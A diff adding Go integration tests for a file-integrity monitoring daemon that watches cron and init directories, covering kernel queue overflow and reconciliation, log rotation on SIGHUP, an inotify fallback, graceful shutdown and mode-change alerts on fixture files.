+// directory dir: the drift row when there is one (absent when it says deleted), else the
+// baseline row.
+func recordedUnder(t *testing.T, db, dir string) map[string]recorded {
+	t.Helper()
+	h := openDBReadOnly(t, db)
+	out := map[string]recorded{}
+	read := func(q string, apply func(path string, r recorded, present bool)) {
+		rows, err := h.Query(q, dir+"/%", dir+"/%/%")
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer rows.Close()
+		for rows.Next() {
+			var p string
+			var mode, inode, present int64
+			if err := rows.Scan(&p, &mode, &inode, &present); err != nil {
+				t.Fatal(err)
+			}
+			apply(p, recorded{uint32(mode), uint64(inode)}, present != 0)
+		}
+		if err := rows.Err(); err != nil {
+			t.Fatal(err)
+		}
+	}
+	read("SELECT path, mode, inode, 1 FROM baseline WHERE path LIKE ? AND path NOT LIKE ?", func(p string, r recorded, _ bool) { out[p] = r })
+	read("SELECT path, mode, inode, present FROM state WHERE path LIKE ? AND path NOT LIKE ?", func(p string, r recorded, present bool) {
+		if present {
+			out[p] = r
+		} else {
+			delete(out, p)
+		}
+	})
+	return out
+}
+
+// onDisk returns the mode and inode of every entry in a host directory, by logical path.
+func onDisk(t *testing.T, hostDir, logicalDir string) map[string]recorded {
+	t.Helper()
+	ents, err := os.ReadDir(hostDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := map[string]recorded{}
+	for _, e := range ents {
+		var st unix.Stat_t
+		if err := unix.Lstat(filepath.Join(hostDir, e.Name()), &st); err != nil {
+			t.Fatal(err)
+		}
+		out[logicalDir+"/"+e.Name()] = recorded{st.Mode & 0o7777, st.Ino}
+	}
+	return out
+}
+
+// procState returns the state letter of a process (R, S, T...).
+func procState(pid int) string {
+	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
+	if err != nil {
+		return ""
+	}
+	s := string(b)
+	i := strings.LastIndexByte(s, ')') // comm may hold anything
+	if i < 0 || i+2 >= len(s) {
+		return ""
+	}
+	return s[i+2 : i+3]
+}
+
+// TestWatchOverflow overflows the kernel queue on purpose: the daemon is stopped (SIGSTOP) so it
+// reads nothing while 20,000 files are created in a watched directory, a third of them made
+// executable and some deleted — more events than the kernel's 16,384 — then resumed. It must
+// log the overflow, record a gap, reconcile, and end with a recorded state equal to the
+// filesystem's, every surviving file reported exactly once and no deleted one reported.
+//
+// Stopping the process rather than racing it is what makes the overflow certain: the daemon's
+// reader drains the kernel queue into a 65,536-event channel, so a fast machine would otherwise
+// keep up with the flood.
+func TestWatchOverflow(t *testing.T) {
+	testenv.RequireRoot(t)
+	fx, _ := newWatchFixture(t)
+	out := filepath.Join(t.TempDir(), "events.ecs")
+	d := startWatch(t, fx, out)
+	pid := d.cmd.Process.Pid
+	if err := syscall.Kill(pid, syscall.SIGSTOP); err != nil {
+		t.Fatal(err)
+	}
+	resumed := false
+	resume := func() {
+		if !resumed {
+			resumed = true
+			syscall.Kill(pid, syscall.SIGCONT)
+		}
+	}
+	t.Cleanup(resume) // before the kill of startWatch's cleanup: cleanups run last first
+	d.within(t, "the daemon stopped by SIGSTOP", func() bool { return procState(pid) == "T" })
+
+	const n = 20000
+	dir := fx.path("etc/cron.d")
+	name := func(i int) string { return filepath.Join(dir, fmt.Sprintf("f%05d", i)) }
+	for i := 0; i < n; i++ {
+		if err := unix.Mknod(name(i), unix.S_IFREG|0o644, 0); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for i := 0; i < n; i += 3 {
+		if err := unix.Chmod(name(i), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for i := 1; i < n; i += 7 {
+		if err := unix.Unlink(name(i)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	resume()
+	d.waitLog(t, "kernel event queue overflowed")
+	d.waitLog(t, "msg=reconciled why=overflow")
+	d.sync(t)
+	d.stop(t)
+
+	// The recorded state is the filesystem's.
+	checkRecorded(t, fx, "etc/cron.d")
+
+	// Every surviving new file was reported exactly once, some of them by the reconcile; no
+	// deleted one was.
+	byPath := map[string][]ecsEvent{}
+	sources := map[string]int{}
+	bad := 0
+	for _, e := range d.seen {
+		byPath[e.File.Path] = append(byPath[e.File.Path], e)
+	}
+	for i := 0; i < n; i++ {
+		p := fmt.Sprintf("/etc/cron.d/f%05d", i)
+		evs := byPath[p]
+		if i%7 == 1 {
+			if len(evs) != 0 {
+				t.Errorf("%s was deleted before the daemon looked, yet reported: %v", p, evs)
+			}
+			continue
+		}
+		rule, mode := "file-created", "0644"
+		if i%3 == 0 {
+			rule, mode = "executable-created", "0755"
+		}
+		if len(evs) != 1 || evs[0].Rule.ID != rule || evs[0].File.Mode != mode {
+			if bad++; bad <= 20 {
+				t.Errorf("%s: %v, want one %s with mode %s", p, evs, rule, mode)
+			}
+			continue
+		}
+		sources[evs[0].Tripline.Source]++
+	}
+	t.Logf("new files reported: %v", sources)
+	if sources["reconcile"] == 0 {
+		t.Errorf("no file was reported by the reconcile, so nothing was shown to be lost and recovered: %v", sources)
+	}
+
+	var overflow bool
+	for _, g := range gaps(t, fx.db) {
+		if g.endNS == 0 || g.run == 0 {
+			t.Errorf("gap %+v left open", g)
+		}
+		overflow = overflow || g.reason == "overflow"
+	}
+	if !overflow {
+		t.Errorf("no overflow gap recorded: %+v", gaps(t, fx.db))
+	}
+}
+
+// TestWatchSIGHUP renames the output file away (as logrotate does) and sends SIGHUP: the next
+// event lands in a new file at the original name, the earlier one stays in the renamed file.
+func TestWatchSIGHUP(t *testing.T) {
+	testenv.RequireRoot(t)
+	fx, _ := newWatchFixture(t)
+	out := filepath.Join(t.TempDir(), "events.ecs")
+	d := startWatch(t, fx, out)
+	pid := act(t, "chmod", "+x", fx.path("etc/cron.daily/backup"))
+	d.waitEvent(t, "/etc/cron.daily/backup", func(e ecsEvent) bool { return e.pid() == pid })
+
+	rotated := out + ".1"
+	if err := os.Rename(out, rotated); err != nil {
+		t.Fatal(err)
+	}
+	if err := d.cmd.Process.Signal(syscall.SIGHUP); err != nil {
+		t.Fatal(err)
+	}
+	// SIGHUP reopens the output, then reloads the policy, which logs and reconciles: once the
+	// reconcile is logged, the new file is the one written to.
+	d.waitLog(t, "msg=reconciled why=reload")
+	if _, err := os.Stat(out); err != nil {
+		t.Fatalf("no new output file after SIGHUP: %v", err)
+	}
+	pid = act(t, "chmod", "0755", fx.path("etc/init.d/alpha"))
+	d.within(t, "the event in the reopened file", func() bool {
+		return len(eventsFor(readECS(t, out), "/etc/init.d/alpha")) > 0
+	})
+	d.stop(t)
+
+	fresh, old := readECS(t, out), readECS(t, rotated)
+	if len(fresh) != 1 || fresh[0].File.Path != "/etc/init.d/alpha" || fresh[0].Rule.ID != "exec-bit-set" || fresh[0].pid() != pid {
+		t.Errorf("reopened file: %v, want only the exec-bit-set of /etc/init.d/alpha by pid %d", fresh, pid)
+	}
+	if len(old) != 1 || old[0].File.Path != "/etc/cron.daily/backup" {
+		t.Errorf("rotated file: %v, want only the line written before SIGHUP", old)
+	}
+	if st, err := os.Stat(out); err != nil || st.Mode().Perm() != 0o640 {
+		t.Errorf("reopened file: %v, mode %v, want 0640", err, st.Mode())
+	}
+}
+
+// TestWatchInotify runs the fallback backend: the same chmod +x is an exec-bit-set alert, with
+// attribution "none" and no process.pid, and the ready line says pids=false. It writes to stdout.
+func TestWatchInotify(t *testing.T) {
+	fx, _ := newWatchFixture(t)
+	d := startWatch(t, fx, "", "--backend", "inotify")
+	ready := d.waitLog(t, "msg=ready")
+	for _, want := range []string{"backend=inotify", "pids=false", "pidfds=false", `attribution="unavailable: inotify reports no pid"`} {
+		if !strings.Contains(ready, want) {
+			t.Errorf("ready line lacks %s: %s", want, ready)
+		}
+	}
+	act(t, "chmod", "+x", fx.path("etc/cron.daily/backup"))
+	e := d.waitEvent(t, "/etc/cron.daily/backup", nil)
+	if e.Rule.ID != "exec-bit-set" || e.Event.Kind != "alert" || e.File.Mode != "0755" || e.previousMode() != "0644" {
+		t.Errorf("%v: want an exec-bit-set alert 0644 -> 0755", e)
+	}
+	if e.Tripline.Attribution != "none" || e.Process != nil || e.Tripline.Source != "event" ||
+		!strings.Contains(e.Tripline.AttributionWhy, "inotify") {
+		t.Errorf("%v: want attribution none (why %q naming inotify) and no process", e, e.Tripline.AttributionWhy)
+	}
+	d.stop(t)
+}
+
+// TestWatchSIGTERMWhileBusy sends SIGTERM while the daemon works through a burst of changes: it
+// must finish what it read, commit and exit 0 (the watch command's contract: "SIGTERM and SIGINT
+// drain, commit and exit 0"), and a restart must find the recorded state and the filesystem in
+// agreement.
+func TestWatchSIGTERMWhileBusy(t *testing.T) {
+	testenv.RequireRoot(t)
+	fx, _ := newWatchFixture(t)
+	out := filepath.Join(t.TempDir(), "events.ecs")
+	d := startWatch(t, fx, out)
+	d.sync(t)
+	// Judging a change takes longer than making one: when the burst is made, the daemon is in
+	// the middle of it.
+	burst(t, fx.path("etc/cron.d"), "busy", 5000)
+	if err := d.cmd.Process.Signal(syscall.SIGTERM); err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case <-d.done:
+	case <-time.After(watchDeadline):
+		t.Fatalf("still running %v after SIGTERM\nstderr:\n%s", watchDeadline, d.stderr)
+	}
+	if d.err != nil {
+		t.Errorf("SIGTERM while busy: %v, want exit 0\nstderr:\n%s", d.err, d.stderr)
+	}
+
+	d = startWatch(t, fx, out)
+	d.stop(t)
+	checkRecorded(t, fx, "etc/cron.d")
+}
+
+// burst creates n empty files named prefix-NNNNN in dir as fast as it can.
+func burst(t *testing.T, dir, prefix string, n int) {
+	t.Helper()
+	for i := 0; i < n; i++ {
+		if err := unix.Mknod(filepath.Join(dir, fmt.Sprintf("%s-%05d", prefix, i)), unix.S_IFREG|0o644, 0); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// checkRecorded compares the latest recorded state of every entry in the fixture directory rel
+// with the filesystem.
+func checkRecorded(t *testing.T, fx *fixture, rel string) {
+	t.Helper()
+	logical := "/" + rel
+	want := onDisk(t, fx.path(rel), logical)
+	got := recordedUnder(t, fx.db, logical)
+	if len(got) != len(want) {
+		t.Errorf("%d paths recorded under %s, %d on disk", len(got), logical, len(want))
+	}
+	bad := 0
+	for p, w := range want {
+		if g, ok := got[p]; !ok || g != w {
+			if bad++; bad <= 10 {
+				t.Errorf("%s: recorded %+v (present %v), on disk %+v", p, g, ok, w)
+			}
+		}
+	}
+	for p := range got {
+		if _, ok := want[p]; !ok {
+			if bad++; bad <= 10 {
+				t.Errorf("%s: recorded as present, not on disk", p)
+			}
+		}
+	}
+}
+
+// TestWatchBurstFewDescriptors runs the daemon with 256 file descriptors (LimitNOFILE=256 in
+// a unit file) and makes a burst of 10,000 changes, fewer than the kernel queue holds: every
+// change must be recorded, or the loss recorded as a gap and reconciled; once the daemon has
+// caught up, the recorded state must be the filesystem's.
+func TestWatchBurstFewDescriptors(t *testing.T) {
+	testenv.RequireRoot(t)
+	fx, _ := newWatchFixture(t)
+	out := filepath.Join(t.TempDir(), "events.ecs")
+	d := startWatchWith(t, fx, out, []string{"sh", "-c", `ulimit -n 256 && exec "$0" "$@"`})
+	burst(t, fx.path("etc/cron.d"), "burst", 10000)
+	d.sync(t)
+	d.stop(t)
+	if line, ok := lineWith(d.stderr.String(), "too many open files"); ok {
+		t.Errorf("the daemon ran out of file descriptors: %s", line)
+	}
+	checkRecorded(t, fx, "etc/cron.d")
+}
+
+// TestWatchPreviousIsLastObservation makes two changes in a row: the second one's previous state
+// is the first change (0755), not the baseline (0644), and nobody approved it, so
+// tripline.previous must not say it was approved.
+func TestWatchPreviousIsLastObservation(t *testing.T) {
+	testenv.RequireRoot(t)
+	fx, _ := newWatchFixture(t)
+	d := startWatch(t, fx, filepath.Join(t.TempDir(), "events.ecs"))
+	p := fx.path("etc/cron.daily/backup")
+	act(t, "chmod", "0755", p)
+	first := d.waitEvent(t, "/etc/cron.daily/backup", nil)
+	act(t, "chmod", "4755", p)
+	second := d.waitEvent(t, "/etc/cron.daily/backup", func(e ecsEvent) bool { return e.Rule.ID == "setuid-set" })
+	d.stop(t)
+	if first.Rule.ID != "exec-bit-set" || first.previousMode() != "0644" {
+		t.Errorf("first change %v: want exec-bit-set from the baseline's 0644", first)
+	}
+	if second.previousMode() != "0755" {
+		t.Errorf("second change %v: previous mode should be the first change's 0755", second)
+	}
+	if prev := second.Tripline.Previous; prev != nil && prev.Approved != nil && *prev.Approved {
+		t.Errorf("second change %v: tripline.previous.approved is true, but 0755 was never approved (the baseline is 0644)", second)
+	}
+}
